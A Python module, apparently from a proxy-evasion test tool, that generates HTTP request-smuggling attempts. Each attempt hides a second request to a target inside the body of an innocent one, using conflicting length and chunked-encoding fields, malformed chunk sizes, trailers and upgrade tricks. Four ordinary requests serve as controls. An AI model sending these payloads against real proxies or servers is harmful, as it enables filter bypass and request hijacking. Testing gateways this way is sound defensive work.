"""Plain HTTP whose bodies end elsewhere for a lenient server than for the proxy: a request hidden in another."""

from collections.abc import Iterator
from functools import partial
from typing import Final

from tokgate.evasion.attempt import Attempt, Family, Opens, SentPieces, Target
from tokgate.evasion.families.http_heads import asked

_HEAD: Final = b" / HTTP/1.1\r\nHost: www.example.org\r\n"


def _hidden(target: Target) -> bytes:
    return b"GET / HTTP/1.1\r\nHost: " + target.octets + b"\r\nConnection: close\r\n\r\n"


def _with_body(method: bytes, field: bytes) -> SentPieces:
    """A harmless request whose body is another. LENGTH is the body's."""

    def pieces(target: Target) -> list[bytes]:
        body = _hidden(target)
        return [method + _HEAD + field.replace(b"LENGTH", b"%d" % len(body)) + b"\r\n\r\n" + body]

    return pieces


def _chunked(field: bytes, body: bytes) -> SentPieces:
    """A harmless request with a chunked body behind which another begins."""
    return lambda target: [b"POST" + _HEAD + field + b"\r\n\r\n" + body + _hidden(target)]


_SHAPES: Final[dict[str, tuple[str, SentPieces]]] = {
    "get-with-body": ("GET with a body that is a request", _with_body(b"GET", b"Content-Length: LENGTH")),
    "head-with-body": ("HEAD with one", _with_body(b"HEAD", b"Content-Length: LENGTH")),
    "two-lengths": ("two lengths", _with_body(b"POST", b"Content-Length: LENGTH\r\nContent-Length: 0")),
    "two-lengths-in-one": ("two lengths in one field", _with_body(b"POST", b"Content-Length: LENGTH, 0")),
    "plus-length": ("a length with a plus", _with_body(b"POST", b"Content-Length: +LENGTH")),
    "spaced-length": ("a space before the colon", _with_body(b"POST", b"Content-Length : LENGTH")),
    "length-and-chunks": (
        "a length and chunks",
        _chunked(b"Content-Length: 5\r\nTransfer-Encoding: chunked", b"0\r\n\r\n"),
    ),
    "odd-encoding": (
        "an encoding that is nearly chunked",
        _chunked(b"Content-Length: 5\r\nTransfer-Encoding: xchunked", b"0\r\n\r\n"),
    ),
    "tab-encoding": (
        "a tab before chunked",
        _chunked(b"Content-Length: 5\r\nTransfer-Encoding:\tchunked", b"0\r\n\r\n"),
    ),
    "chunk-extension": ("a chunk with an extension", _chunked(b"Transfer-Encoding: chunked", b"0;a=b\r\n\r\n")),
    "chunk-bare-lf": ("chunks that end with LF", _chunked(b"Transfer-Encoding: chunked", b"0\n\n")),
    "options-with-body": ("OPTIONS with one", _with_body(b"OPTIONS", b"Content-Length: LENGTH")),
    "delete-with-body": ("DELETE with one", _with_body(b"DELETE", b"Content-Length: LENGTH")),
    "unknown-with-body": ("an unknown method with one", _with_body(b"FROB", b"Content-Length: LENGTH")),
    "chunk-0x": ("a size in hexadecimal", _chunked(b"Transfer-Encoding: chunked", b"0x0\r\n\r\n")),
    "chunk-underscore": ("a size with _", _chunked(b"Transfer-Encoding: chunked", b"0_0\r\n\r\n")),
    "chunk-zeros": ("a size of twenty zeros", _chunked(b"Transfer-Encoding: chunked", b"0" * 20 + b"\r\n\r\n")),
    "chunk-cr-cr": ("a size that ends with CR CR LF", _chunked(b"Transfer-Encoding: chunked", b"0\r\r\n\r\n")),
    "chunk-tab": ("a tab behind the size", _chunked(b"Transfer-Encoding: chunked", b"0\t\r\n\r\n")),
    "chunk-space-first": ("a space before the size", _chunked(b"Transfer-Encoding: chunked", b" 0\r\n\r\n")),
    "chunk-cr-extension": ("an extension with CR", _chunked(b"Transfer-Encoding: chunked", b"0;a\rb\r\n\r\n")),
    "chunk-nul": ("a NUL behind the size", _chunked(b"Transfer-Encoding: chunked", b"0\0\r\n\r\n")),
    "chunk-empty-size": ("no size", _chunked(b"Transfer-Encoding: chunked", b"\r\n\r\n")),
    "chunk-half-end": ("half an end", _chunked(b"Transfer-Encoding: chunked", b"0\r\n\r")),
    "trailer-folded": ("a folded trailer", _chunked(b"Transfer-Encoding: chunked", b"0\r\nX: a\r\n b\r\n\r\n")),
    "trailer-line-feeds": ("trailers that end with LF", _chunked(b"Transfer-Encoding: chunked", b"0\r\nX: a\n\n")),
    "trailer-space-first": (
        "a trailer with a space first",
        _chunked(b"Transfer-Encoding: chunked", b"0\r\n X: a\r\n\r\n"),
    ),
    "trailer-without-colon": ("a trailer without a colon", _chunked(b"Transfer-Encoding: chunked", b"0\r\nX\r\n\r\n")),
    "trailer-nul": ("a trailer with a NUL", _chunked(b"Transfer-Encoding: chunked", b"0\r\nX: a\0\r\n\r\n")),
    "trailer-cr": ("a trailer that ends with CR", _chunked(b"Transfer-Encoding: chunked", b"0\r\nX: a\r\r\n")),
    "encoding-chunked-twice": ("chunked twice", _chunked(b"Transfer-Encoding: chunked, chunked", b"0\r\n\r\n")),
    "encoding-identity": (
        "identity, and a length",
        _chunked(b"Content-Length: 5\r\nTransfer-Encoding: identity", b"0\r\n\r\n"),
    ),
    "encoding-nul": (
        "a NUL behind chunked",
        _chunked(b"Content-Length: 5\r\nTransfer-Encoding: chunked\0", b"0\r\n\r\n"),
    ),
    "encoding-latin-1": (
        "a letter of Latin-1 behind it",
        _chunked(b"Content-Length: 5\r\nTransfer-Encoding: chunked\xff", b"0\r\n\r\n"),
    ),
    "encoding-empty": ("an empty encoding", _chunked(b"Content-Length: 5\r\nTransfer-Encoding:", b"0\r\n\r\n")),
    "encoding-empty-first": (
        "an empty encoding first",
        _chunked(b"Transfer-Encoding:\r\nTransfer-Encoding: chunked", b"0\r\n\r\n"),
    ),
    "encoding-in-connection": (
        "an encoding named by Connection",
        _chunked(b"Connection: transfer-encoding\r\nContent-Length: 5\r\nTransfer-Encoding: chunked", b"0\r\n\r\n"),
    ),
    "length-in-connection": (
        "a length named by Connection",
        _chunked(b"Connection: content-length\r\nContent-Length: 5", b"0\r\n\r\n"),
    ),
    "length-with-zeros": (
        "a length with zeros, and another",
        _with_body(b"POST", b"Content-Length: 0\r\nContent-Length: 00LENGTH"),
    ),
    "length-hex": ("a length in hexadecimal", _with_body(b"POST", b"Content-Length: 0xff")),
    "length-minus": ("a negative length", _with_body(b"POST", b"Content-Length: -1")),
    "length-word": ("a length that is none", _with_body(b"POST", b"Content-Length: x")),
    "length-empty": ("an empty length", _with_body(b"POST", b"Content-Length:")),
    "length-float": ("a length with a dot", _with_body(b"POST", b"Content-Length: 0.0")),
    "length-space": ("a length with a space inside", _with_body(b"POST", b"Content-Length: 0 LENGTH")),
    "length-overflow": ("a length that overflows", _with_body(b"POST", b"Content-Length: 18446744073709551616")),
    "length-folded": ("a folded length", _with_body(b"POST", b"Content-Length:\r\n 0")),
    "length-tab": (
        "a length behind a tab, and another",
        _with_body(b"POST", b"Content-Length:\t0\r\nContent-Length: LENGTH"),
    ),
    "length-underscore": ("Content_Length", _with_body(b"GET", b"Content_Length: LENGTH\r\nContent-Length: 0")),
    "length-nul": ("a length with a NUL", _with_body(b"POST", b"Content-Length: 0\0")),
    "encodings-two": (
        "two encodings",
        _chunked(b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\nContent-Length: 5", b"0\r\n\r\n"),
    ),
    "encoding-list": (
        "a list of encodings",
        _chunked(b"Transfer-Encoding: identity, chunked\r\nContent-Length: 5", b"0\r\n\r\n"),
    ),
    "encoding-behind": ("chunked, identity", _chunked(b"Transfer-Encoding: chunked, identity", b"0\r\n\r\n")),
    "encoding-gzip": ("gzip, chunked", _chunked(b"Transfer-Encoding: gzip, chunked", b"0\r\n\r\n")),
    "encoding-quoted": (
        "chunked in quotes",
        _chunked(b'Transfer-Encoding: "chunked"\r\nContent-Length: 5', b"0\r\n\r\n"),
    ),
    "encoding-comma": (
        "a comma before chunked",
        _chunked(b"Transfer-Encoding: ,chunked\r\nContent-Length: 5", b"0\r\n\r\n"),
    ),
    "encoding-vertical-tab": (
        "a vertical tab before chunked",
        _chunked(b"Transfer-Encoding: \x0bchunked\r\nContent-Length: 5", b"0\r\n\r\n"),
    ),
    "encoding-folded": (
        "chunked folded",
        _chunked(b"Transfer-Encoding:\r\n chunked\r\nContent-Length: 5", b"0\r\n\r\n"),
    ),
    "encoding-space": (
        "a space before its colon",
        _chunked(b"Transfer-Encoding : chunked\r\nContent-Length: 5", b"0\r\n\r\n"),
    ),
    "encoding-lf": (
        "chunked behind a lone LF",
        _chunked(b"X: y\nTransfer-Encoding: chunked\r\nContent-Length: 5", b"0\r\n\r\n"),
    ),
    "encoding-cr": (
        "chunked behind a lone CR",
        _chunked(b"X: y\rTransfer-Encoding: chunked\r\nContent-Length: 5", b"0\r\n\r\n"),
    ),
    "encoding-case": (
        "CHUNKED, and a length",
        _chunked(b"Transfer-Encoding: CHUNKED\r\nContent-Length: 5", b"0\r\n\r\n"),
    ),
    "encoding-parameter": ("chunked with a parameter", _chunked(b"Transfer-Encoding: chunked;q=1", b"0\r\n\r\n")),
    "encoding-1.0": (
        "chunked in HTTP/1.0",
        lambda t: [
            b"POST / HTTP/1.0\r\nHost: www.example.org\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n"
            b"0\r\n\r\n" + _hidden(t)
        ],
    ),
    "chunk-minus": ("a negative size", _chunked(b"Transfer-Encoding: chunked", b"-0\r\n\r\n")),
    "chunk-plus": ("a size with a plus", _chunked(b"Transfer-Encoding: chunked", b"+0\r\n\r\n")),
    "chunk-overflow": ("a size that overflows", _chunked(b"Transfer-Encoding: chunked", b"10000000000000000\r\n\r\n")),
    "chunk-spaces": ("spaces behind a size", _chunked(b"Transfer-Encoding: chunked", b"0   \r\n\r\n")),
    "chunk-quoted-extension": (
        "an extension with a line inside quotes",
        _chunked(b"Transfer-Encoding: chunked", b'0;a="\r\n\r\n"\r\n\r\n'),
    ),
    "chunk-lf-extension": ("LF in an extension", _chunked(b"Transfer-Encoding: chunked", b"0;\n\r\n\r\n")),
    "chunk-cr": ("a size ended by CR", _chunked(b"Transfer-Encoding: chunked", b"0\r\r\n\r\n")),
    "chunk-long-size": ("a size of 100 zeros", _chunked(b"Transfer-Encoding: chunked", b"0" * 100 + b"\r\n\r\n")),
    "chunk-data-too-long": (
        "a chunk longer than its size",
        _chunked(b"Transfer-Encoding: chunked", b"1\r\nxyz\r\n0\r\n\r\n"),
    ),
    "trailer-host": (
        "Host for a trailer",
        _chunked(b"Transfer-Encoding: chunked", b"0\r\nHost: x.example.org\r\n\r\n"),
    ),
    "trailer-length": (
        "a length for a trailer",
        _chunked(b"Transfer-Encoding: chunked", b"0\r\nContent-Length: 9\r\n\r\n"),
    ),
    "upgrade-and-request": (
        "an upgrade that nobody knows, and a request behind it",
        lambda t: [b"GET" + _HEAD + b"Connection: Upgrade\r\nUpgrade: x\r\n\r\n" + _hidden(t)],
    ),
    "websocket-and-request": (
        "an offer of WebSocket with a wrong version, and a request behind it",
        lambda t: [
            b"GET" + _HEAD + b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 999\r\n"
            b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n" + _hidden(t)
        ],
    ),
    "expect-and-request": (
        "a body that is not waited for, and a request in it",
        _with_body(b"POST", b"Expect: 100-continue\r\nContent-Length: LENGTH"),
    ),
    "chunk-hex": ("a size with 0x", _chunked(b"Transfer-Encoding: chunked", b"0x0\r\n\r\n")),
}


def _post(fields: bytes, body: bytes) -> SentPieces:
    """A POST request whose Host is the target's name, with `fields` and a body."""
    return lambda target: [
        b"POST / HTTP/1.1\r\nHost: " + target.octets + b"\r\nConnection: close\r\n" + fields + b"\r\n\r\n" + body
    ]


_ORDINARY: Final[dict[str, tuple[str, SentPieces]]] = {
    "body": ("a request with a body", _post(b"Content-Length: 5", b"hello")),
    "chunked-body": ("a body in chunks", _post(b"Transfer-Encoding: chunked", b"5\r\nhello\r\n0\r\n\r\n")),
    "chunked-trailers": (
        "a body in chunks, and fields behind it",
        _post(b"Trailer: X-Sum\r\nTransfer-Encoding: chunked", b"5\r\nhello\r\n0\r\nX-Sum: 1\r\n\r\n"),
    ),
    "expect-continue": ("a body that waits for nothing", _post(b"Expect: 100-continue\r\nContent-Length: 5", b"hello")),
}
"""What ordinary clients do with bodies."""


_attempt = partial(Attempt, family=Family.HTTP_BODIES, opens=Opens.HTTP)


def attempts() -> Iterator[Attempt]:
    """Attempts that hide a request in a body."""
    for name, (what, pieces) in _SHAPES.items():
        yield _attempt(name, what, partial(asked, pieces, wanted=2))
    for name, (what, pieces) in _ORDINARY.items():
        ordinary = partial(asked, pieces)
        yield _attempt(name, what, ordinary, innocent=True)
